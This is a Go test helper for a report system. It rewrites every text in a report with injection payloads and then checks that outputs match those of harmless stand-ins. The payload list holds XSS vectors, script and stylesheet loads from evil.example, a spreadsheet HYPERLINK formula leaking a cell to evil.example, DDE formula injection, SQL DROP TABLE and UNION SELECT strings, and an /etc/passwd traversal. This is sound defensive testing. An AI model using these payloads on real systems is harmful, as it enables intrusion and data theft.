// Package reporttest turns a report into one whose every text is an attack, for
// the proofs that everything shows and exports as text.
//
// A proof works by comparison. Hostile rewrites the texts of a report twice, once
// with attacks and once with harmless words in their places; Harmless turns one
// into the other. What is made of both must then be the same, element by
// element: an attack that became markup, or a formula, or a place of its own,
// makes a difference.
package reporttest

import (
	"bytes"
	"encoding/gob"
	"hash/fnv"
	"reflect"
	"strings"
	"unicode/utf8"

	"disclosure/internal/report"
)

// Attacks are the attacks that a report may hold, because they are texts: each
// would be run, or would break out of its place, in some language that the site
// writes. None ends in a letter or digit, so that a figure behind it stays one,
// and their words are long: a page may show the words of a text one by one.
var Attacks = []string{
	`<script>alert("k")</script>。`,
	`</script><script src="//evil.example/k.js"></script>。`,
	`"><img/src=x/onerror=alert(1)>。`,
	`'onmouseover='alert(1)'x='。`,
	"`onfocus=alert(1)autofocus。",
	`</title></style></textarea><svg/onload=alert(1)>。`,
	`--><!--<body onload=alert(1)>]]>。`,
	`<base/href="//evil.example/"><meta/http-equiv=refresh/content="0;url=//evil.example">。`,
	`<a href="javascript:alert(1)">点此</a>。`,
	`javascript:alert(document.domain)//。`,
	`data:text/html,<script>alert(1)</script>。`,
	`//evil.example/%0d%0aSet-Cookie:k=v。`,
	`{{7*7}}${7*7}<%=7*7%>#{7*7}。`,
	`{"@type":"Thing","url":"x"}</script>。`,
	`\"},{"@id":"k"。`,
	`}*{background:url(//evil.example/k)}/*。`,
	`";}@import/**/url("//evil.example/k.css");a::before{content:"。`,
	`\3cscript\3ealert(1)。`,
	`=cmd|'/Ccalc'!A0。`,
	`=HYPERLINK("https://evil.example/?"&A1,"点此")。`,
	`+1+cmd|'/Ccalc'!A0。`,
	`-2+3+cmd|'/Ccalc'!A0。`,
	`@SUM(1+1)*cmd|'/Ccalc'!A0。`,
	`＝1+1。`,
	`'=1+1。`,
	`"quoted",and,commas。`,
	`';DROP/**/TABLE/**/report;--。`,
	`"OR/**/1=1/**/UNION/**/SELECT/**/name/**/FROM/**/sqlite_master;--。`,
	`NEAR(k,2)AND{text}:"x"*^。`,
	`%'ESCAPE'\。`,
	`../../../etc/passwd。`,
	`..\..\CON:*?<>|。`,
	`&lt;b&gt;&amp;&#60;&quot;。`,
	`<![CDATA[x]]><?xml version="1.0"?><!DOCTYPE/k[<!ENTITY/e"x">]>&e;。`,
	`_x003C_script_x003E_。`,
	"e\u0301\u0327ﷺ𝕏👨\u200d👩\u200d👧。",
	`%s%n%x%!d(MISSING)。`,
	strings.Repeat("长<b>", 600) + `。`,
}

// RefusedAttacks are texts that no report may hold: what is not seen, what turns the
// direction of writing, and what is no text at all.
var RefusedAttacks = []string{
	"a\x00b", "a\x1b[31mb", "a\rb", "a\u0085b", "a\u2028b", "a\u2029b",
	"a\u202eb", "a\u2066b", "a\u200fb", "a\ufeffb", "a\xffb", "a\xc0\xafb", "a\xed\xa0\x80b", "a\x7fb",
}

// harmless returns the words that stand for Attacks[i]: Chinese, as many
// characters, different for each, and with spaces where it has some.
func harmless(i int) string {
	words := []rune{rune(0x4e00 + i)}
	for k, r := range []rune(strings.TrimSuffix(Attacks[i], "。")) {
		switch {
		case r == ' ':
			words = append(words, ' ')
		case k > 0:
			words = append(words, rune(0x5000+k%0x100))
		}
	}
	return string(words) + "。"
}

var toHarmless = func() *strings.Replacer {
	var all, words []string
	bare := report.BareOf(report.Front{})
	for i, text := range Attacks {
		all = append(all, text, harmless(i), bare.Words(text), bare.Words(harmless(i)))
		if strings.Contains(text, " ") { // which keys leave out
			words = append(words, strings.ReplaceAll(text, " ", ""), strings.ReplaceAll(harmless(i), " ", ""))
			benign := strings.Fields(harmless(i))
			for k, word := range strings.Fields(text) {
				words = append(words, word, benign[k])
			}
		}
	}
	return strings.NewReplacer(append(all, words...)...)
}()

// Harmless returns text with harmless words for every attack in it, and for the
// beginning of one that an excerpt cuts off at an ellipsis.
func Harmless(text string) string {
	const ellipsis = "…"
	for from := 0; ; {
		at := strings.Index(text[from:], ellipsis)
		if at < 0 {
			return toHarmless.Replace(text)
		}
		at += from
		for i, attack := range Attacks {
			if n := beginning(text[:at], attack); n > 0 {
				benign := string([]rune(harmless(i))[:utf8.RuneCountInString(attack[:n])])
				text = text[:at-n] + benign + text[at:]
				at += len(benign) - n
				break
			}
		}
		from = at + len(ellipsis)
	}
}

// beginning is how many bytes at the end of text are the beginning of attack,
// which begins nowhere before them; a few bytes are not told from other texts.
func beginning(text, attack string) int {
	const few = 4
	for n := min(len(text), len(attack)-1); n >= few; n-- {
		if strings.HasSuffix(text, attack[:n]) && utf8.ValidString(attack[:n]) {
			return n
		}
	}
	return 0
}

// Hostile returns two copies of r. In the first an attack stands before each
// text, in the second its harmless words. Equal texts get the same one, so that
// what is equal stays so; turn, from 0 to len(Attacks)-1, decides which, so that
// after all turns every attack has stood in every place. Figures are left
// alone, and so is what is no text: keys, roles, places.
func Hostile(r *report.Report, turn int) (attacked, benign *report.Report) {
	make := func(word func(int) string) *report.Report {
		to := clone(r)
		rewrite(reflect.ValueOf(to).Elem(), func(text string) string {
			sum := fnv.New32()
			sum.Write([]byte(text))
			return word((int(sum.Sum32()%uint32(len(Attacks)))+turn)%len(Attacks)) + text
		})
		for i := range to.Terms { // so that terms are found, and among them attacks
			to.Terms[i].Spellings = append(to.Terms[i].Spellings, r.Terms[i].Name, word(i%len(Attacks)))
			to.Terms[i].Never = r.Terms[i].Never
		}
		to.Version = to.ContentHash()
		return to
	}
	return make(func(i int) string { return Attacks[i] }), make(harmless)
}

// clone copies a report to the last slice.
func clone(r *report.Report) *report.Report {
	var buffer bytes.Buffer
	to := new(report.Report)
	if err := gob.NewEncoder(&buffer).Encode(r); err != nil {
		panic(err) // plain data always can
	}
	if err := gob.NewDecoder(&buffer).Decode(to); err != nil {
		panic(err)
	}
	return to
}

// rewrite replaces every text in v that is not blank.
func rewrite(v reflect.Value, replace func(string) string) {
	switch value := v.Addr().Interface().(type) {
	case *report.Key, *report.Ref:
		return
	case *report.Cell:
		if !value.Value.Valid && value.Text != "" {
			value.Text = replace(value.Text)
		}
		return
	case *report.Field:
		value.Name = replace(value.Name)
		if value.Amount {
			return
		}
	case *string:
		if *value != "" {
			*value = replace(*value)
		}
		return
	}
	switch v.Kind() {
	case reflect.Struct:
		for i := range v.NumField() {
			if v.Type() == reflect.TypeFor[report.Field]() && i == 0 {
				continue // its name is replaced above
			}
			rewrite(v.Field(i), replace)
		}
	case reflect.Slice:
		for i := range v.Len() {
			rewrite(v.Index(i), replace)
		}
	case reflect.Pointer:
		if !v.IsNil() {
			rewrite(v.Elem(), replace)
		}
	}
}
